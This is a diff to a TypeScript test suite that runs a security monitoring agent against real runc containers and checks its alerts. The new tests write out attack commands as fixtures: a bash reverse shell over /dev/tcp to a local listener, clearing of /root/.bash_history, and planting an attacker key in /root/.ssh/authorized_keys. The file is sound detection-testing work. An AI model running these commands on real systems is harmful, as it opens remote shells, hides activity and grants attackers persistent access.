@@ -5,7 +5,7 @@ import { containerName, RuncLab, runcAvailable } from './runc.js';
 /**
  * The agent against real runc containers from the debian12 minbase image. minbase has no
  * python or netcat; listeners and clients are perl-base one-liners (IO::Socket::INET is in
- * perl-base). The web-shell container binds the host's /usr read-only for python3 (same
+ * perl-base); writable places are tmpfs mounts over the shared read-only rootfs. The web-shell container binds the host's /usr read-only for python3 (same
  * Debian release), as the issue allows; its own /etc and root filesystem stay the image's.
  */
 describe.skipIf(!runcAvailable())('node agent on real containers (runc)', () => {
@@ -14,7 +14,7 @@ describe.skipIf(!runcAvailable())('node agent on real containers (runc)', () => 
 
   beforeAll(() => {
     lab = RuncLab.create();
-    agent = new NodeAgent({ node: 'test-node', threatIntel: ['127.0.0.3/32'], statEvery: 1, watchFiles: false });
+    agent = new NodeAgent({ node: 'test-node', threatIntel: ['127.0.0.3/32'], statEvery: 1 });
   }, 90_000);
 
   afterAll(() => lab?.cleanup(), 60_000);
@@ -96,6 +96,45 @@ describe.skipIf(!runcAvailable())('node agent on real containers (runc)', () => 
       const intel = alerts.filter((a) => a.rule === 'agent.threat-intel-connection');
       expect(intel.length, JSON.stringify(alerts.map((a) => a.rule))).toBeGreaterThan(0);
       expect(intel.map((a) => a.evidence[0]!.event)).toContainEqual(expect.objectContaining({ kind: 'network', direction: 'connect', remote: { ip: '127.0.0.3', port: 8443 } }));
+    } finally {
+      lab.kill(name);
+    }
+  }, 40_000);
+
+  it('raises the reverse-shell alert for bash -i with its stdin on a TCP socket', async () => {
+    const name = containerName('revshell');
+    // A listener stands in for the attacker's machine; the shell connects out to it.
+    const script = 'perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or die; my $c = $s->accept; sleep 60;\' & sleep 0.5; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; true"';
+    try {
+      await lab.run(name, { args: ['/bin/bash', '-c', script] });
+      const alerts = await alertsFor(name, (a) => a.some((x) => x.rule === 'agent.reverse-shell' && x.evidence[0]!.event.process?.stdin?.type === 'socket'));
+      const shells = alerts.filter((a) => a.rule === 'agent.reverse-shell');
+      expect(shells.length, JSON.stringify(alerts.map((a) => a.rule))).toBeGreaterThan(0);
+      const bySocket = shells.find((a) => a.evidence[0]!.event.process?.stdin?.type === 'socket');
+      expect(bySocket!.evidence[0]!.event.process).toMatchObject({ name: 'bash', argv: ['bash', '-i'], stdin: { type: 'socket', remote: '127.0.0.1:4444' } });
+    } finally {
+      lab.kill(name);
+    }
+  }, 40_000);
+
+  it('raises history-cleared and account-files alerts for changes inside a container', async () => {
+    const name = containerName('files');
+    const script = 'echo "ls -la" >> /root/.bash_history; mkdir -p /root/.ssh; sleep 2; : > /root/.bash_history; echo "ssh-ed25519 AAAA attacker" > /root/.ssh/authorized_keys; sleep 60';
+    const files = new NodeAgent({ node: 'test-node', statEvery: 1 });
+    const found: AgentAlert[] = [];
+    try {
+      await lab.run(name, { args: ['/bin/bash', '-c', script], tmpfs: ['/root'] });
+      const deadline = Date.now() + 10_000;
+      const fileAlert = (rule: string) => found.find((a) => a.rule === rule && a.evidence[0]!.event.kind === 'file');
+      while (Date.now() < deadline && !(fileAlert('agent.history-cleared') && fileAlert('agent.account-files-changed'))) {
+        found.push(...(await files.collect()).alerts.filter((a) => a.resource.id === name));
+        await new Promise((r) => setTimeout(r, 250));
+      }
+      const history = fileAlert('agent.history-cleared');
+      expect(history, JSON.stringify(found.map((a) => a.rule))).toBeDefined();
+      expect(history!.evidence[0]!.event).toMatchObject({ kind: 'file', path: '/root/.bash_history', op: 'truncate' });
+      const keys = fileAlert('agent.account-files-changed');
+      expect(keys!.evidence[0]!.event).toMatchObject({ kind: 'file', path: '/root/.ssh/authorized_keys', op: 'create' });
     } finally {
       lab.kill(name);
     }
